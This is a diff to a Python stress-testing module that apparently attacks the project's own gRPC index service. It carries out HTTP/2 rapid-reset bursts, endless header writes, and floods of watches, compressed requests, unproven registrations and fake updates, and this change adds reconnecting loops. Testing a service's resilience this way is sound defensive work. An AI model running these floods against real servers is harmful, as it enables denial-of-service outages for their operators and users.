@@ -11,8 +11,8 @@ import zlib
 
 from contract import (INDEX, PAGE, WORDS, Key, Pinged, bearer, content, index_pb2, listing,
                       register_request, ticket, types_pb2)
-from http2 import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, call_headers,
-                   field, flood, for_each, frame, framed, statuses, told)
+from http2 import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, Refused,
+                   again_and_again, call_headers, field, flood, for_each, frame, framed, statuses, told)
 
 MIB = 1 << 20
 
@@ -23,20 +23,15 @@ def long_name(chance, number):
 
 
 class Watchers:
-    """Watches of a word that no book has: the index looks through all books for them."""
+    """1,000 watches of a word that no book has: the index looks through all books for them."""
 
     def __init__(self, attack):
-        self._count = 40 if attack.small else 1_000
-        self._connections = [attack.connect() for _ in range(max(1, self._count // 100))]
+        self._each = 20 if attack.small else 100
+        self._connections = [attack.connect(keep=False) for _ in range(2 if attack.small else 10)]
 
     def run(self, until):
-        message = index_pb2.WatchRequest(keywords="zqxj")
-        with contextlib.suppress(OSError):
-            for number in range(self._count):
-                self._connections[number % len(self._connections)].begin(INDEX + "Watch", message)
-        until.wait()
-        return {"watchers": self._count,
-                **told(statuses(self._connections))}
+        message = index_pb2.WatchRequest(keywords="zqxj").SerializeToString()
+        return flood(self._connections, INDEX + "Watch", lambda: message, self._each, until)
 
 
 class CompressedRequests:
@@ -52,19 +47,15 @@ class CompressedRequests:
         self._connections = [attack.connect(keep=False) for _ in range(2)]
 
     def run(self, until):
-        sent = itertools.count()
-
         def one(connection):
             while until.is_ahead() and connection.alive:
                 ended = threading.Event()
-                next(sent)
                 connection.begin(self.path, self._message, on_end=lambda _: ended.set(),
                                  compressed=True)
                 ended.wait()
         for_each(self._connections, one)
         until.wait()
-        return {"requests": next(sent), "KiB each": len(self._message) / 1024,
-                **told(statuses(self._connections))}
+        return {"KiB each": len(self._message) / 1024, **told(statuses(self._connections))}
 
 
 class Searches:
@@ -87,7 +78,7 @@ class Member:
         answer = self.connection.call(INDEX + "Register", self._pinged.request(self.key),
                                       index_pb2.RegisterResponse)
         if not answer.reachability.reachable:
-            raise RuntimeError(answer.reachability.message)
+            raise Refused(answer.reachability.message)
         self.metadata = bearer(answer.session_token)
         number = self.connection.open(INDEX + "Announce", self.metadata)
         self.connection.wait_message(number)
@@ -146,7 +137,7 @@ class MadeUpSources:
         figures = flood(self._connections, INDEX + "UpdateOwner",
                         lambda: next(self._messages, None) or self._make(), 2, until,
                         self._member.metadata)
-        return {"tickets": sum(figures.values()) * self.ITEMS, **figures}
+        return {"tickets": figures.get("calls OK", 0) * self.ITEMS, **figures}
 
 
 class Registrations:
@@ -183,31 +174,26 @@ class UnprovenBooks:
     """Sessions that have proven nothing and state one page of long names after another."""
 
     def __init__(self, attack):
-        self._sessions, chance = [], random.Random(1)
+        chance = random.Random(1)
         self._statements = [index_pb2.Statement(present=listing(number, long_name(chance, number)))
                             for number in range(1, PAGE + 1)]
-        for _ in range(2 if attack.small else 8):
-            connection = attack.connect()
-            answer = connection.call(INDEX + "Register", register_request(Key(), 1),
-                                     index_pb2.RegisterResponse)
-            number = connection.open(INDEX + "Announce", bearer(answer.session_token))
-            connection.wait_message(number)
-            self._sessions.append((connection, number))
+        self._connections = [attack.connect() for _ in range(2 if attack.small else 8)]
 
     def run(self, until):
         sent = itertools.count()
 
-        def one(session):
-            connection, stream = session
+        def one(connection):
+            answer = connection.call(INDEX + "Register", register_request(Key(), 1),
+                                     index_pb2.RegisterResponse)
+            stream = connection.open(INDEX + "Announce", bearer(answer.session_token))
             for page in itertools.count():
-                if not until.is_ahead() or not connection.alive:
+                if not until.is_ahead() or not connection.is_open(stream):
                     return
                 connection.send(stream, framed(self._page(page)), last=False)
                 next(sent)
-        for_each(self._sessions, one)
+        for_each(self._connections, one)
         until.wait()
-        return {"books": next(sent) * PAGE,
-                **told(statuses(c for c, _ in self._sessions))}
+        return {"books": next(sent) * PAGE, **told(statuses(self._connections))}
 
     def _page(self, page):
         """Other numbers than in the page before, and the same names."""
@@ -226,7 +212,7 @@ class RapidResets:
     path, message = INDEX + "Search", index_pb2.SearchRequest(keywords="a")
 
     def __init__(self, attack):
-        self._connections = [attack.connect(keep=False) for _ in range(4)]
+        self._connect = attack.connect
         self._block, self._body = call_headers(self.path), framed(self.message)
 
     def run(self, until):
@@ -242,9 +228,8 @@ class RapidResets:
                     + frame(RST_STREAM, 0, number, CANCEL)
                     for number in range(first, first + self.BURST * 2, 2)))
                 next(sent)
-        for_each(self._connections, one)
-        until.wait()
-        return {"calls reset": next(sent) * self.BURST}
+        connections = again_and_again(self._connect, one, until)
+        return {"calls reset": next(sent) * self.BURST, "connections": connections}
 
 
 class EndlessHeaders:
@@ -253,7 +238,7 @@ class EndlessHeaders:
     path = INDEX + "Search"
 
     def __init__(self, attack):
-        self._connections = [attack.connect(keep=False) for _ in range(4)]
+        self._connect = attack.connect
 
     def run(self, until):
         sent = itertools.count()
@@ -264,7 +249,6 @@ class EndlessHeaders:
             while until.is_ahead():
                 connection.write(more)
                 next(sent)
-        for_each(self._connections, one)
-        until.wait()
-        return {"MiB of headers": next(sent) * len(more) / MIB}
+        connections = again_and_again(self._connect, one, until)
+        return {"MiB of headers": next(sent) * len(more) / MIB, "connections": connections}
 
